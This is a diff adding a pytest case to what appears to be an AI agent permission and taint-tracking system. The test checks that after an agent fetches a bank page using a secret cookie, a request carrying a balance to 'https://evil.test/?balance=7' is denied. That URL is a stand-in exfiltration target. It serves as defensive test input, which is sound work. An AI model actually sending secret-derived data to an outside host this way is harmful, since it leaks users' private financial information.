@@ -2,6 +2,7 @@
 
 import json
 from collections.abc import AsyncIterator, Sequence
+from dataclasses import replace
 
 import pytest
 from anyio import fail_after
@@ -112,6 +113,19 @@ async def test_a_request_to_the_web_taints_the_run_before_it_has_the_answer() ->
         async with acting(lab.services, who, act) as added:  # and may go on to the next page
             assert added.decision.rule == "marco-reads"
         assert names(await of_run(lab).bus.ask(call("echo", "say", text="a"))) == {TAINT_WORKER, TAINT_WEB}
+
+
+async def test_what_a_secret_opened_goes_nowhere_else() -> None:
+    async with lab_of(RESIDENTS) as lab:
+        who = Identity("marco", frozenset({"web", "files"}), run="marco-1", conversation="c")
+        act = Act("web.fetch", who.principals, "https://bank.test/", {"method": "GET"})
+        key = Act("secret.use", who.principals, "cookie", {"method": "GET"})
+        for _ in range(2):
+            async with acting(lab.services, who, act, needs=[key]) as added:
+                assert added.decision.rule == "marco-reads"
+        with pytest.raises(Denied, match="rule marco-with-secrets"):
+            async with acting(lab.services, who, replace(act, target="https://evil.test/?balance=7")):
+                pytest.fail("it told somebody else")
 
 
 async def test_a_run_of_our_own_says_clean_words_until_it_hears_others() -> None:
